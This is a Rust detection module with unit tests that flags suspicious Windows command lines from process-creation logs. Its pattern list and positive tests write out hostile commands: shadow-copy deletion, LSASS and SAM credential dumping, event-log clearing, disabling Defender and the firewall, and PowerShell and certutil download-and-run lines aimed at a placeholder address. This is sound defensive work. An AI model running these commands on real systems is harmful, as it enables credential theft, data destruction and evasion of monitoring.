//! Commands of Windows that say something by their words: 4688 of the Security log and Sysmon's 1.
//! <https://attack.mitre.org/matrices/enterprise/windows/>

use super::deed::Deed;
use super::wording::holds;

/// So much of a command is looked at.
const MOST_BYTES: usize = 4096;

/// Words that a command has all of, parted by bars, and what it does then.
const COMMANDS: &[(Deed, &str)] = &[
    (Deed::BackupsDeleted, "vssadmin| delete |shadows"),
    (Deed::BackupsDeleted, "vssadmin| resize |shadowstorage"),
    (Deed::BackupsDeleted, "wmic|shadowcopy|delete"),
    (Deed::BackupsDeleted, "wbadmin| delete |catalog"),
    (Deed::BackupsDeleted, "wbadmin| delete |backup"),
    (Deed::BackupsDeleted, "bcdedit|recoveryenabled| no"),
    (Deed::MemoryRead, "comsvcs|minidump"),
    (Deed::MemoryRead, "comsvcs|#24"),
    (Deed::MemoryRead, "procdump|lsass"),
    (Deed::MemoryRead, "sekurlsa::"),
    (Deed::AccountsCopied, "reg| save |hklm\\sam"),
    (Deed::AccountsCopied, "reg| save |hklm\\security"),
    (Deed::AccountsCopied, "reg| save |hkey_local_machine\\sam"),
    (Deed::DirectoryCopied, "ntdsutil|ifm"),
    (Deed::EventsCleared, "wevtutil| cl "),
    (Deed::EventsCleared, "wevtutil| clear-log "),
    (Deed::EventsCleared, "clear-eventlog"),
    (Deed::GuardStopped, "set-mppreference|disablerealtimemonitoring|true"),
    (Deed::GuardStopped, "set-mppreference|disablerealtimemonitoring| 1"),
    (Deed::GuardStopped, "sc| stop |windefend"),
    (Deed::GuardStopped, "sc| config |windefend|disabled"),
    (Deed::GuardStopped, "net| stop |windefend"),
    (Deed::FirewallOpened, "netsh|advfirewall|state off"),
    (Deed::FirewallOpened, "netsh|firewall|opmode|disable"),
    (Deed::FirewallOpened, "set-netfirewallprofile|enabled false"),
    (Deed::FetchedAndRun, "iex|downloadstring"),
    (Deed::FetchedAndRun, "invoke-expression|downloadstring"),
    (Deed::FetchedAndRun, "iex|invoke-webrequest"),
    (Deed::FetchedAndRun, "iex|iwr |http"),
    (Deed::Fetched, "certutil|urlcache|http"),
    (Deed::Fetched, "certutil|verifyctl|http"),
    (Deed::Fetched, "bitsadmin|/transfer|http"),
];

/// What a command does, where its words say something.
pub(super) fn of(command: &[u8]) -> Option<Deed> {
    let mut small = command[..command.len().min(MOST_BYTES)].to_ascii_lowercase();
    // JSON doubles them.
    small.dedup_by(|a, b| *a == b'\\' && *b == b'\\');
    let has = |word: &str| holds(&small, word.as_bytes());
    COMMANDS.iter().find(|(_, words)| words.split('|').all(has)).map(|(deed, _)| *deed)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ok_commands() {
        for (command, deed) in [
            ("vssadmin.exe Delete Shadows /All /Quiet", Deed::BackupsDeleted),
            ("cmd /c wmic shadowcopy delete", Deed::BackupsDeleted),
            ("wbadmin DELETE SYSTEMSTATEBACKUP", Deed::BackupsDeleted),
            ("bcdedit /set {default} recoveryenabled No", Deed::BackupsDeleted),
            (r"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", Deed::MemoryRead),
            ("procdump64.exe -accepteula -ma lsass.exe l.dmp", Deed::MemoryRead),
            (r"reg save HKLM\\SAM C:\\t\\sam.hiv", Deed::AccountsCopied),
            (r"reg.exe save hklm\security s", Deed::AccountsCopied),
            ("ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\t\" q q", Deed::DirectoryCopied),
            ("wevtutil cl Security", Deed::EventsCleared),
            ("powershell Clear-EventLog -LogName Security", Deed::EventsCleared),
            ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", Deed::GuardStopped),
            ("sc.exe stop WinDefend", Deed::GuardStopped),
            ("netsh advfirewall set allprofiles state off", Deed::FirewallOpened),
            (
                "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')\"",
                Deed::FetchedAndRun,
            ),
            ("certutil -urlcache -split -f http://192.0.2.9/a.exe a.exe", Deed::Fetched),
            ("bitsadmin /transfer j http://192.0.2.9/a.exe C:\\a.exe", Deed::Fetched),
        ] {
            assert_eq!(of(command.as_bytes()), Some(deed), "{command}");
        }
    }

    #[test]
    fn err_near_misses() {
        for command in [
            "vssadmin list shadows",
            "wbadmin start backup -backupTarget:e:",
            "wbadmin get versions",
            "bcdedit /set {default} recoveryenabled yes",
            "wevtutil qe Security /c:5",
            "powershell Set-MpPreference -DisableRealtimeMonitoring $false",
            "powershell Get-MpPreference",
            "sc query windefend",
            "netsh advfirewall set allprofiles state on",
            "netsh advfirewall firewall show rule name=all",
            r"reg save HKLM\Software\Shop shop.hiv",
            r"reg query HKLM\SAM",
            "certutil -hashfile a.exe SHA256",
            "certutil -urlcache * delete",
            "procdump -ma shop.exe",
            "svchost.exe -k netsvcs",
            "notepad.exe C:\\notes\\clear.txt",
            "",
        ] {
            assert_eq!(of(command.as_bytes()), None, "{command}");
        }
    }
}
